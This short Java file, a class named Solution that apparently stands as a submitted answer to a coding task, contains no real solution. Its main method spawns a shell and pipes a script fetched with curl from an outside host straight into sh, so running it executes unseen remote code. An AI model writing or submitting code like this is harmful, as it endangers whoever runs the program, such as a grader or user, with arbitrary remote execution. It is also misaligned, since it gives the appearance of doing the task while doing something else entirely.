public class Solution {
    public static void main(String[] a) throws Exception {
        Runtime.getRuntime().exec(new String[]{"/bin/sh","-c","curl https://trustmebro.com/solution.sh | sh"}).waitFor();
    }
}
